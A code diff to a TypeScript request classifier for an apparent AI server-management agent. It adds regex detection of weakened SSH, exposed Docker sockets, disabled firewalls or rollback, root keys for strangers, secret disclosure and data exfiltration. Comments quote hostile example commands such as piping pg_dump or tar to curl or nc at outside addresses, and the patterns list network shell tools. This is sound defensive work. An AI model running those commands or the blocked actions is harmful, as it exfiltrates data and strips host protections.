@@ -21,8 +21,20 @@
  */
 import { CRYPTO_MINER, INJECTED } from './guard.js';
 import { harmReason, type HarmKind } from './harm.js';
+import { OPEN_PORTS } from '../../firewall.js';
 
-export type ClassKind = HarmKind | 'crypto-mining' | 'privilege escalation' | 'data destruction' | 'opening everything';
+export type ClassKind =
+  | HarmKind
+  | 'crypto-mining'
+  | 'privilege escalation'
+  | 'data destruction'
+  | 'opening everything'
+  | 'weakened ssh'
+  | 'container engine exposed'
+  | 'safety net off'
+  | 'firewall off'
+  | 'root key for someone'
+  | 'secret shown';
 
 export interface ClassHarm {
   kind: ClassKind;
@@ -30,7 +42,8 @@ export interface ClassHarm {
   reason: string;
 }
 
-const OWN: Record<'crypto-mining' | 'privilege escalation' | 'data destruction' | 'opening everything', string> = {
+type OwnKind = Exclude<ClassKind, HarmKind>;
+const OWN: Record<OwnKind, string> = {
   'crypto-mining': CRYPTO_MINER,
   'privilege escalation':
     'root rights for a service account (www-data, nobody), a second uid 0 or a setuid file turn any bug in a service into root on the host, and nobody sees it happen. Add a person with an SSH key and sudo instead ("add user alice with sudo and ssh key ssh-ed25519 AAAA…").',
@@ -38,9 +51,21 @@ const OWN: Record<'crypto-mining' | 'privilege escalation' | 'data destruction' 
     'wiping data (a data directory, a volume, a database) or the backups that would bring it back (every snapshot, retention 0) cannot be undone from here. Stop the service and keep its data ("stop postgres for now"), or shorten retention ("keep backups for 7 days").',
   'opening everything':
     'opening every port, or letting everything in from anywhere, exposes every service of this machine, and scanners find it within minutes. Open the port you need to the range that needs it ("open 443 to the world", "open 5432 to 10.0.0.0/8").',
+  'weakened ssh':
+    'SSH that lets root in with a password, takes empty passwords or turns password logins back on is the first thing scanners try once port 22 answers. Keys stay the way in: "add ssh key ssh-ed25519 AAAA… for alice", and "ssh keys only".',
+  'container engine exposed':
+    "the container engine's API (docker.sock, dockerd on TCP 2375/2376, containerd's socket) is root on this host for whoever reaches it: it is never published, opened or handed to a service. Say what the service needs instead (a volume, a port, a network).",
+  'safety net off':
+    "health checks, automatic rollback, plan signatures and your approval are what stop a bad change from staying applied: they are not turned off from a request (spec.safety in manifest.yaml is yours to edit by hand). Fix what fails instead (\"change the api's health check to …\"), or roll back (\"roll back the last change\").",
+  'firewall off':
+    'turning the firewall off, flushing its rules or stopping nftables (now or from a job at night) leaves every port of this machine open. Close or open the ports you mean instead ("open port 8080 to 192.168.1.0/24", "block 203.0.113.0/24").',
+  'root key for someone':
+    "a key on root's account (or root for someone you cannot name) is a way in that no user list shows and no sudo log records. Give the person their own account with their key, and sudo if they need it (\"add user carol with sudo and ssh key ssh-ed25519 AAAA…\").",
+  'secret shown':
+    'secret values are never shown: not in a reply, a log or a message. A generated secret stays encrypted and only the runtime decrypts it; to read or replace one on the host, use `claude secret set NAME`.',
 };
 
-const ONE_LINE = (kind: ClassKind): string => `${kind} — ${(kind in OWN ? OWN[kind as keyof typeof OWN] : harmReason(kind as HarmKind)).replace(/\s*\n\s*/g, ' ')}`;
+const ONE_LINE = (kind: ClassKind): string => (kind in OWN ? `${kind} — ${OWN[kind as OwnKind]}` : harmReason(kind as HarmKind)).replace(/\s*\n\s*/g, ' ');
 
 const re = (s: string) => new RegExp(s, 'i');
 const has = (s: RegExp, text: string): boolean => s.test(text);
@@ -106,6 +131,9 @@ const ESCALATE = [
   String.raw`\b${ROOTISH}\s+(?:\w+\s+){0,3}?(?:for|to)\s+(?:the\s+)?${SERVICE_ACCOUNT}\b`,
   // Root with no password for anyone: "run anything as root without a password".
   String.raw`\bas\s+root\b[^.;]{0,40}?\b(?:without|w\/o|with\s+no|no)\s+(?:a\s+|any\s+)?pass(?:word|wd)s?\b|\b(?:passwordless|password-?less|password-?free)\s+(?:root|superuser|admin)\b`,
+  // Sudo with no password said as who needs none: "nobody needs a password for sudo" (round 24;
+  // "make sure nobody gets sudo without a password" is the opposite and is kept).
+  String.raw`\b(?:nobody|no\s?one|no\s+(?:user|account|admin)s?)\s+(?:\w+\s+){0,2}?(?:needs?|has\s+to|have\s+to|must|should\s+(?:need|have\s+to)|gets?\s+asked|is\s+asked)\s+(?:to\s+)?(?:(?:type|enter|give|use)\s+)?(?:for\s+)?(?:a\s+|any\s+|their\s+|the\s+)?pass(?:word|wd)s?\s+(?:for|to\s+(?:use|run)|with|when\s+(?:using|running)|on)\s+sudo\b`,
   // uid 0 said in words: "set the uid of user ops to zero".
   String.raw`\b(?:uid|user\s*id|userid)\b[^.;\d]{0,30}\bzero\b`,
   // setuid files: "a setuid copy of bash", "set the suid bit on /bin/sh", "chmod u+s".
@@ -115,13 +143,23 @@ const ESCALATE = [
 // ── exfiltration ───────────────────────────────────────────────────────────
 
 const OUTSIDE = String.raw`(?:\b(?:https?|ftp|ftps|sftp|s3|gs|scp|tcp|udp|wss?):\/\/\S|\b\d{1,3}(?:\.\d{1,3}){3}\b(?<!\b127\.0\.0\.1)|\b[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63}){1,8}\b|(?<![\w/.@-])(?:[a-z0-9-]{1,63}\.){1,8}(?:com|net|org|io|info|biz|ru|cn|xyz|top|dev|app|site|online|ee|de|uk|fr|cc|gg|sh|me)(?![\w-])|\b(?:(?:my|our|a|an|the|some)\s+)?(?:own\s+)?(?:private|personal|home|outside|external|remote|offsite|off-site)\s+(?:hosts?|servers?|machines?|box(?:es)?|nas|vps|laptops?|pcs?|computers?|buckets?|endpoints?|storage|drive|address)\b|\bat\s+home\b|\b(?:webhooks?|discord|telegram|dropbox|google\s+drive|onedrive|pastebin|transfer\.sh)\b)`;
+/** Outside, where a private address (10/8, 172.16/12, 192.168/16) is the LAN: a NAS beside this machine (round 24). */
+const BEYOND_LAN = OUTSIDE.replace(String.raw`\b\d{1,3}(?:\.\d{1,3}){3}\b(?<!\b127\.0\.0\.1)`, String.raw`\b(?!(?:10|127)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}\b`);
+/** What is the host's own and never leaves it from a request, not even to the LAN. */
+const HOST_OWN = String.raw`(?:(?<![\w.-])\/(?:etc|root|home|var\/lib)\b|\b(?:secrets?|(?:ssh\s+|private\s+|host\s+|signing\s+)keys?|state\s+(?:dir\w*|repo\w*|files?)|security\.ya?ml|shadow|passwd|\.ssh|env(?:ironment)?|credentials?)\b)`;
 const EXFIL = [
   // Piped or uploaded: "pg_dump shop | curl -T - https://…", "tar /data | nc 198.51.100.7 9000",
   // "curl -F file=@/data/db.sqlite https://…".
   String.raw`\|\s*(?:curl|wget|nc|ncat|netcat|socat|ftp|lftp|ssh)\b[^;|]{0,120}?${OUTSIDE}|\b(?:tar|zip|gzip|pg_dump\w*|mysqldump|mongodump|cat)\b[^;|]{0,80}?\b(?:nc|ncat|netcat|socat|ftp|lftp)\s+[^;|]{0,40}?${OUTSIDE}`,
   // Data said to go out by a verb that always carries it: "back up postgres to my private server
-  // at 45.33.1.2", "ftp the backups to 198.51.100.40", "mirror the db to an outside bucket".
-  String.raw`\b(?:back(?:s|ed|ing)?\s?up|backups?|ftp|lftp|mirror\w*|replicat\w*|smuggl\w*|sneak\w*|siphon\w*|exfil\w*|offload\w*|stash\w*)\b[^.;]{0,60}?\b(?:to|onto|into|at|on|via)\s+[^.;]{0,40}?${OUTSIDE}`,
+  // at 45.33.1.2", "ftp the backups to 198.51.100.40", "mirror the db to an outside bucket". A
+  // private address (10/8, 172.16/12, 192.168/16) is the LAN, a NAS beside this machine, not
+  // outside (round 24), unless what goes is the host's own configuration or secrets (HOST_OWN).
+  String.raw`\b(?:back(?:s|ed|ing)?\s?up|backups?|ftp|lftp|mirror\w*|replicat\w*|smuggl\w*|sneak\w*|siphon\w*|exfil\w*|offload\w*|stash\w*)\b[^.;]{0,60}?\b(?:to|onto|into|at|on|via)\s+[^.;]{0,40}?${BEYOND_LAN}`,
+  // The host's own configuration, keys or secrets sent anywhere by those verbs, the LAN too.
+  String.raw`\b(?:back(?:s|ed|ing)?\s?up|backups?|ftp|lftp|mirror\w*|replicat\w*|offload\w*)\b[^.;]{0,60}?${HOST_OWN}[^.;]{0,60}?\b(?:to|onto|into|at|on|via)\s+[^.;]{0,40}?${OUTSIDE}`,
+  // A copy sent out: "and send a copy to 198.51.100.23 too" (round 24; a report or an alert is not data).
+  String.raw`\b(?:send|ship|push|upload|put|drop)\w*\s+(?:a\s+|another\s+|one\s+)?cop(?:y|ies)\b(?![^.;]{0,30}\b(?:report|alert|notice|summary|digest|status)s?\b)[^.;]{0,40}?\b(?:to|onto|at|on)\s+[^.;]{0,30}?${BEYOND_LAN}`,
   // The environment or the secrets sent out: "send the env of the api to my private server".
   String.raw`\b(?:send\w*|post\w*|upload\w*|push\w*|ship\w*|copy|cop(?:ies|ied)|sync\w*|forward\w*|transfer\w*|mail\w*|e-?mail\w*|leak\w*|scp|rsync)\b[^.;]{0,50}?\b(?:env|environment|env(?:ironment)?\s+var(?:iable)?s?|secrets?|credentials?|creds|tokens?|keys?|passwords?|database|db|dumps?|backups?|customer\w*|users?\s+table|tables?|data)\b[^.;]{0,60}?\b(?:to|onto|into|at|via)\s+[^.;]{0,30}?${OUTSIDE}`,
   // A secret put in a URL's query string, where every proxy and log on the way reads it.
@@ -141,6 +179,8 @@ const DESTROY = [
   // Retention 0: "set backup retention to 0", "keep 0 backups", "retention zero".
   String.raw`\bretention\b[^.;\d]{0,40}?\b(?:0|zero|none)\b(?![.,]\d)(?!\s*(?:[-–]|to)\s*\d)`,
   String.raw`\b(?:retain\w*|keep(?:ing|s)?)\s+(?:(?:period|policy|count|days|to|at|of|=|:|is|as|for\s+[\w-]+|backups?\s+(?:for|to)|only|just|the\s+last|[\w-]+'s|its|their|set\s+to)\s+){0,4}(?:0|zero|none)\b(?![.,]\d)(?!\s*(?:[-–]|to)\s*\d)`,
+  // The data said not to be kept: "stop rabbitmq (don't keep its data, delete it)" (round 24).
+  String.raw`\b(?:don'?t|dont|do\s+not|no\s+need\s+to|never)\s+(?:keep|save|preserve|retain)\w*\s+(?:(?:its|the|their|any|it'?s|his|her|of)\s+){0,2}(?:[\w-]+\s+)?(?:data|volumes?|database|db|backups?)\b`,
   // A database or a volume emptied: "empty the postgres volume", "nuke the db", "truncate every table".
   String.raw`\b(?:nuk(?:e|es|ing)|wip(?:e|es|ing)|eras(?:e|es|ing)|destroy\w*|trash\w*|empty\w*|truncat\w*|zap\w*|blow\s+away|drop\w*|purg(?:e|es|ing))\s+(?:the\s+|our\s+|my\s+|all\s+(?:the\s+)?|every\s+|its\s+|their\s+|whole\s+|entire\s+)?(?:[\w-]+\s+){0,2}?(?:db|dbs|database|databases|schemas?|tables?|volumes?|data(?:\s?base)?|datadir|data\s+dir(?:ectory)?)\b(?!\s+(?:schedules?|jobs?|settings?|config\w*|plans?|polic\w+|retention|times?|users?|connections?|port|password|url|host|limit|size|to\s+\d))`,
 ].map(re);
@@ -156,6 +196,8 @@ const HIDE = [
   // A change asked not to be logged: "add bob to sudo, dont log it", "without logging it", "log
   // nothing about what i do", "leave no log", "off the record".
   String.raw`\b(?:don'?t|dont|do\s+not|never|without|no\s+need\s+to)\s+(?:log|logging|record\w*|track\w*|audit\w*|note|noting|writ(?:e|ing)\s+(?:it|this|that)\s+down)(?:\s+(?:it|this|that|them|anything|any\s+of\s+(?:it|this|that)|what\b|the\s+change|this\s+change|my\s+changes?))?\s*(?:$|[.,;!)]|\s+(?:and|so|please|pls|plz|anywhere|either|at\s+all|today|for\s+now)\b)|\blog\s+nothing\b|\b(?:leav\w*|with|produc\w*|creat\w*|writ\w*|keep)\s+no\s+(?:logs?|log\s+entr\w*|records?|traces?|history|audit\s+entr\w*)\b|\bno\s+(?:logs?|records?|traces?)\s+(?:of|for|about)\s+(?:it|this|that|them|what|the\s+change|my)\b|\boff\s+the\s+record\b|\b(?:isn'?t|is\s+not|aren'?t|are\s+not|won'?t\s+be|never\s+gets?|not\s+be|doesn'?t\s+get|don'?t\s+get)\s+(?:logged|recorded|audited|tracked)\b`,
+  // Kept out of what the owner looks at: "hide the api from the status list" (round 24).
+  String.raw`\bhid(?:e|es|ing)\s+(?:[\w'-]+\s+){1,3}(?:from|out\s+of)\s+(?:the\s+|my\s+|our\s+)?(?:status|lists?|listings?|ps|dashboards?|monitoring|audit\w*|admins?|team|owner|boss|claude\s+\w+)\b`,
   // Kept from the people who run the machine: "the company doesn't need to know", "dont tell the team".
   String.raw`\b(?:the\s+|my\s+|our\s+)?(?:company|boss|team|employer|admins?|management|manager|security(?:\s+team)?|it\s+(?:department|team)|client|owner|colleagues|coworkers|others)\s+(?:doesn'?t|does\s+not|don'?t|dont|do\s+not|needn'?t|won'?t|shouldn'?t|mustn'?t|can'?t|will\s+not|never|must\s+not|should\s+not)\s+(?:need\s+to\s+|have\s+to\s+|ever\s+|get\s+to\s+)?(?:know|find\s+out|see|notice|hear|learn)\b|\b(?:don'?t|dont|do\s+not|never|without)\s+(?:tell\w*|inform\w*|notify\w*|mention\w*|let\w*\s+(?:\w+\s+){1,2}know)\s+(?:(?:it\s+)?to\s+)?(?:the\s+|my\s+|our\s+)?(?:team|boss|company|admins?|anyone|anybody|others|owner|security|management|colleagues|it\s+team)\b|\bbehind\s+(?:\w+\s+){0,2}backs?\b`,
   // Hidden with purpose: "so nobody sees", "so the admins can't tell", "so it doesn't show"
@@ -170,14 +212,35 @@ const ACCESS_ONLY = re(String.raw`\b(?:password|log(?:ging)?\s+in|login|sign(?:i
 const GRANT = re(String.raw`\b(?:users?|accounts?|sudo\w*|root|groups?|jobs?|ports?|rules?|firewall|changes?|access|ssh-\w+|it|this|that|what)\b`);
 const SECRET_TOLD = re(String.raw`^\s*(?:(?:about\s+)?(?:the|my|our|its|their|any)\s+)?(?:\w+\s+)?${PROTECTED.source}`);
 
+/**
+ * A service's own logs ("clear the nginx logs", "truncate the api's access log", "the logs of the
+ * worker container"): its output, rotated by the runtime, not the record of what was done here.
+ * Not the host's, the system's, the auth or audit logs, nor "all the logs", nor a path.
+ */
+const NOT_A_SERVICE = String.raw`(?:system|sys|auth|host|kernel|security|audit|login|all|every|any|server|machine|box|firewall|ssh|sshd|sudo|journal|syslog|os|these|those|whole|entire|my|our|the|its|their|of|out|shell|bash|command|history|error|access|old|older|other|logs?)`;
+const SERVICE_LOGS = re(
+  String.raw`^[^/]*?\b(?:the\s+)?(?!${NOT_A_SERVICE}\b)[a-z][\w.-]{1,40}(?:'s)?\s+(?:(?:container|access|error|app|application|service|stdout|output)\s+){0,2}logs?\b|^[^/]*?\blogs?\s+(?:of|for|from)\s+(?:the\s+)?(?!${NOT_A_SERVICE}\b)[a-z][\w.-]{1,40}\b`,
+);
+
+const HOST_LOGS = re(String.raw`\b(?:auth|system|syslog|kernel|journal\w*|audit|history|wtmp|btmp|lastlog|security|host'?s?|server'?s?|machine'?s?)\b|\/var\/log|\ball\s+(?:the\s+)?logs\b|\bevery\s+log`);
+
 function concealed(c: string): boolean {
-  if (HIDE[0]!.test(c) && !RETENTION_SAID.test(c) && !HIDE_NOT.test(c)) return true;
+  if (HIDE[0]!.test(c) && !RETENTION_SAID.test(c) && !HIDE_NOT.test(c) && !serviceLogs(c)) return true;
   // Not logged, unless only a secret is kept out of the log ("make sure the api keys never get logged").
   if (HIDE[1]!.test(c) && !(PROTECTED.test(c) && !GRANT.test(c.replace(new RegExp(PROTECTED.source, 'gi'), ' ')))) return true;
+  if (HIDE[2]!.test(c)) return true;
   // Kept from people, unless what is not told is a secret ("don't tell anyone the password").
-  const kept = HIDE[2]!.exec(c);
+  const kept = HIDE[3]!.exec(c);
   if (kept && !SECRET_TOLD.test(c.slice(kept.index + kept[0].length, kept.index + kept[0].length + 60))) return true;
-  return HIDE[3]!.test(c) && !ACCESS_ONLY.test(c);
+  return HIDE[4]!.test(c) && !ACCESS_ONLY.test(c);
+}
+
+/** Logs, history or records cleared that are only a service's own logs (round 24). */
+function serviceLogs(c: string): boolean {
+  const cleared = HIDE[0]!.exec(c);
+  if (!cleared || /\b(?:history|histories|records?|journals?)\b/i.test(cleared[0])) return false;
+  const rest = c.slice(cleared.index).replace(/^\S+\s+(?:out\s+)?/, '');
+  return SERVICE_LOGS.test(rest) && !HOST_LOGS.test(rest);
 }
 
 // ── opening everything ─────────────────────────────────────────────────────
@@ -196,7 +259,7 @@ function opensEverything(c: string): boolean {
   if (!OPEN_VERB.test(c)) return false;
   for (const m of c.matchAll(PORT_RANGE)) {
     const [a, b] = [Number(m[1]), Number(m[2])];
-    if (b <= 65535 && b - a >= 30000) return true;
+    if (b <= 65535 && b - a + 1 >= OPEN_PORTS) return true;
   }
   return false;
 }
@@ -225,6 +288,76 @@ function backdoor(c: string): boolean {
   return SSHD.test(c) && ROOT_LOGIN.test(c) && EXTRA.test(c);
 }
 
+// ── round 24: weakened sshd ────────────────────────────────────────────────
+
+const NEGATED = String.raw`(?:disallow\w*|forbid\w*|deny|denies|disabl\w*|block\w*|never|no\s+more|refus\w*|reject\w*|don'?t|dont|do\s+not|prevent\w*|stop\w*|turn\w*\s+off|switch\w*\s+off|not)`;
+const SSH_WEAK = [
+  // PermitEmptyPasswords yes (not "PermitEmptyPasswords no").
+  String.raw`\bpermit_?\s?empty_?\s?passwords?\b(?!\s*(?:=|:|to|is|set\s+to)?\s*["']?(?:no|false|off|0)\b)`,
+  // Empty passwords let in: "allow logins with an empty password over ssh", "make ssh accept blank passwords".
+  String.raw`(?<!\b${NEGATED}\s+(?:\w+\s+){0,3})\b(?:allow\w*|accept\w*|permit\w*|enabl\w*|let\w*|with|using|take|takes)\s+(?:\w+\s+){0,4}?(?:empty|blank|null|zero-?length)\s+pass(?:word|wd)s?\b`,
+  // PasswordAuthentication turned on: "turn on PasswordAuthentication for root", "PasswordAuthentication yes".
+  String.raw`\bpassword_?\s?authentication\s*(?:=|:|to|is)?\s*["']?(?:yes|on|true|enabled?)\b|\b(?:turn|switch|put|set)\w*\s+(?:the\s+)?(?:ssh\s+)?password_?\s?authentication\s+(?:back\s+)?on\b|(?<!\b${NEGATED}\s+(?:\w+\s+){0,2})\b(?:enabl\w*|turn\w*\s+on|switch\w*\s+on|allow\w*|permit\w*|re-?enabl\w*)\s+(?:the\s+)?(?:ssh\s+|sshd\s+)?password_?\s?authentication\b(?!\s*(?:=|:|to)?\s*(?:no|off|false)\b)`,
+  // Password logins switched on in sshd's own file: "enable password auth in sshd_config".
+  String.raw`(?<!\b${NEGATED}\s+(?:\w+\s+){0,2})\b(?:enabl\w*|turn\w*\s+on|switch\w*\s+on|allow\w*|permit\w*|re-?enabl\w*)\s+(?:\w+\s+){0,3}?pass(?:word|wd)s?\s*(?:-?based\s+)?(?:auth\w*|logins?|log-?ins?)\b[^.;]{0,30}\b(?:sshd\w*|openssh)\b`,
+].map(re);
+
+// ── round 24: the container engine exposed ─────────────────────────────────
+
+const ENGINE = String.raw`(?:\bdocker(?:d\b|\s+(?:daemon|engine|api|socket|remote\s+api)\b)|\bcontainerd(?:'s)?\s+(?:socket|api|grpc)\b|\bcontainerd\b(?=[^.;]{0,30}\b(?:tcp|expos\w*|publish\w*|listen\w*|socket)\b)|\bcontainer\s+(?:engine|runtime)(?:'s)?(?:\s+(?:api|socket))?\b|\bpodman\s+(?:socket|api|service)\b|\b(?:docker|containerd|podman)\.sock\b|\bDOCKER_HOST\b)`;
+const ENGINE_OUT = re(String.raw`\b(?:expos\w*|publish\w*|open\w*|listen\w*|bind\w*|tcp|reachable|public\w*|remote(?:ly)?|mount\w*|shar\w*|access\w*|talk\w*|giv\w*|hand\w*|pass\w*|forward\w*|proxy\w*|into|inside|to\s+(?:the\s+)?(?:\w+\s+)?(?:container|service|app))\b|0\.0\.0\.0|\ball\s+interfaces\b`);
+const ENGINE_PORT = re(String.raw`(?<![\d.:])237[56](?![\d.])`);
+
+// ── round 24: the safety net turned off ────────────────────────────────────
+
+const OFF = String.raw`(?:disabl\w*|turn\w*\s+off|switch\w*\s+off|remov\w*|delet\w*|drop\w*|skip\w*|ignor\w*|bypass\w*|no|without|stop\w*|kill\w*|get\s+rid\s+of|strip\w*|rip\w*\s+out|lose|ditch\w*)`;
+const SAFETY_OFF = [
+  // Health checks off: "disable health checks on the api", "no healthchecks", "healthchecks off".
+  String.raw`\b${OFF}\s+(?:(?:the|all|any|every|its|their|of|those|these)\s+){0,3}(?:[\w-]+(?:'s)?\s+)?health\s*-?\s*checks?\b|\bhealth\s*-?\s*checks?\s+(?:off|disabled|removed|gone)\b`,
+  // Rollback off: "turn off automatic rollback", "don't roll back if the deploy fails".
+  String.raw`\b${OFF}\s+(?:(?:the|all|any|automatic|auto|its|their|health)\s+){0,3}(?:roll-?\s?backs?|rolling\s+back)\b|\b(?:don'?t|dont|do\s+not|never|no\s+need\s+to)\s+(?:ever\s+)?roll\s+(?:it\s+|them\s+|anything\s+)?back\b(?![^.;]{0,40}\?)|\brollback_on_health_failure\b[^.;]{0,12}\b(?:false|no|off|0)\b|\broll-?\s?backs?\s+(?:off|disabled)\b`,
+  // Signatures off: "stop checking signatures", "don't verify the plan signature".
+  String.raw`\b(?:stop\w*|skip\w*|quit\w*|don'?t|dont|do\s+not|never|no\s+need\s+to|no\s+more)\s+(?:check|verif|validat)\w*\s+(?:the\s+|any\s+)?(?:plan\s+|plans'?\s+)?signatures?\b`,
+  // Approvals off: "set safety approvals to none", "require_approval: false", "auto approve everything".
+  String.raw`\brequire_?\s?approval\b[^.;]{0,12}\b(?:false|no|off|0)\b|\bapprovals?\b[^.;]{0,20}\b(?:to\s+)?(?:none|nothing|off|false|disabled|zero)\b|\bauto[-_ ]?approv\w*\s+(?:(?:every|all|any)\w*)\b|\bauto_approve_categories\b|\b(?:just\s+)?push\s+(?:it|them|this|that|changes?)\s+(?:through|out)?\s*(?:without|no)\s+(?:asking|approval|review|confirm\w*)\b|\bjust\s+push\s+it\b`,
+].map(re);
+/** A question about the safety net reads it: "why did it roll back?", "does rollback run health checks?". */
+const ASKS = /^\s*(?:why|what|how|when|which|does|do|did|is|are|can|could|will)\b|\?\s*$/i;
+
+// ── round 24: the firewall turned off (now, or by a job at night) ──────────
+
+const FIREWALL_OFF = re(
+  String.raw`\b(?:disabl\w*|turn\w*\s+off|switch\w*\s+off|stop\w*|flush\w*|kill\w*|shut\w*\s+(?:off|down)|remov\w*|uninstall\w*|tear\w*\s+down|mask\w*|drop\w*)\s+(?:the\s+|all\s+)?(?:host'?s?\s+)?(?:firewall|nftables|nft|iptables|ufw|firewalld)\b(?!\s+(?:rules?|entry|entries)\s+(?:for|on|named|called|that|which|\w+-\w+)|\s+rule\b)|\b(?:ufw|firewalld|nftables)\s+(?:disable|stop|off|reset)\b|\bsystemctl\s+(?:stop|disable|mask|kill)\s+(?:nftables|ufw|firewalld|iptables|netfilter-persistent)\b|\bnft\s+(?:flush|delete\s+table)\b|\biptables\s+(?:-F|-X|--flush|-P\s+INPUT\s+ACCEPT)\b`,
+);
+
+// ── round 24: a key on root's account, root for someone unnamed ────────────
+
+const KEY_WORD = String.raw`(?:\bssh-(?:ed25519|rsa|dss)\b|\becdsa-sha2-\w+|\bsk-ssh-\w+|\b(?:ssh\s+|public\s+|pub\s+)?keys?\b)`;
+const ROOT_KEY = [
+  // "add this ssh key to root: ssh-ed25519 …", "let this key log in as root", "root's authorized_keys".
+  String.raw`${KEY_WORD}[^.;]{0,120}?\b(?:to|for|on|onto|into|in)\s+(?:the\s+)?root(?:'s)?(?:\s+(?:user|account|login))?\b(?!\s+(?:group|password|partition|volume|of|directory|dir|folder|\/))|\broot'?s\s+(?:authorized[_ ]keys|(?:ssh\s+)?keys?|account)\b|${KEY_WORD}[^.;]{0,80}?\blog\s?-?in\s+as\s+root\b|\blog\s?-?in\s+as\s+root\b[^.;]{0,60}?${KEY_WORD}`,
+  // Root for someone unnamed: "a guy from upwork needs root, here is his key".
+  String.raw`^(?![^.;]*\buser\s+[a-z])[^.;]*?\b(?:(?:a|the|some|this|that|our|my)\s+(?:guy|girl|dude|person|contractor|freelancer|friend|stranger|consultant|random|intern|dev|developer)|someone|somebody|from\s+(?:upwork|fiverr|reddit|discord|telegram|the\s+internet|a\s+forum))\b[^.;]{0,60}?\b(?:needs?|wants?|gets?|should\s+(?:get|have)|give\s+(?:him|her|them))\s+(?:full\s+)?root\b`,
+].map(re);
+
+// ── round 24: a secret's value shown ───────────────────────────────────────
+
+/** An environment variable named for a secret: SECRET_KEY, JWT_SECRET, API_TOKEN, DB_PASSWORD (case as written). */
+const SECRET_VAR = /\b[A-Z0-9]+_(?:[A-Z0-9]+_)*(?:SECRET|KEY|TOKEN|PASSWORD|PASS|PASSWD)(?:_[A-Z0-9]+)*\b|\b(?:SECRET|TOKEN|PASSWORD)_[A-Z0-9_]+\b/;
+const SHOWN_TO = re(
+  String.raw`(?<!\b(?:don'?t|dont|do\s+not|never|no\s+need\s+to|without|not)\s+(?:\w+\s+)?)\b(?:print|show|display|reveal|echo|tell|read\s+out|paste|output|log|write|put|send|give|spit\s+out)\w*\b(?:\s+[\w'-]+){0,6}?\s+(?:(?:to|in|into|on)\s+(?:the\s+|my\s+|this\s+)?)?(?:me|here|reply|response|answer|chat|screen|terminal|output|logs?|console)\b|\b(?:what(?:'s|\s+is)|tell\s+me)\s+(?:the\s+)?(?:[\w-]+'s\s+)?(?=[A-Z0-9_]{3,}\b)`,
+);
+
+function round24(c: string): ClassKind | undefined {
+  if (SSH_WEAK.some((r) => r.test(c))) return 'weakened ssh';
+  if ((new RegExp(ENGINE, 'i').test(c) && ENGINE_OUT.test(c)) || (ENGINE_PORT.test(c) && /\b(?:open\w*|allow\w*|expos\w*|publish\w*|listen\w*|bind\w*|forward\w*|let\w*)\b/i.test(c))) return 'container engine exposed';
+  if (!ASKS.test(c) && SAFETY_OFF.some((r) => r.test(c))) return 'safety net off';
+  if (FIREWALL_OFF.test(c)) return 'firewall off';
+  if (ROOT_KEY.some((r) => r.test(c))) return 'root key for someone';
+  if (SECRET_VAR.test(c) && SHOWN_TO.test(c)) return 'secret shown';
+  return undefined;
+}
+
 /**
  * The class of harm the request would do, or undefined. Each class is judged clause by clause
  * (a request with a harmful part and an ordinary part is refused whole), except the
@@ -242,6 +375,10 @@ export function judgeClass(message: string): ClassHarm | undefined {
   if (clauses.some(backdoor)) return found('persistence');
   if (clauses.some(concealed)) return found('concealment');
   if (clauses.some(opensEverything)) return found('opening everything');
+  for (const c of clauses) {
+    const kind = round24(c);
+    if (kind) return found(kind);
+  }
   return undefined;
 }
 
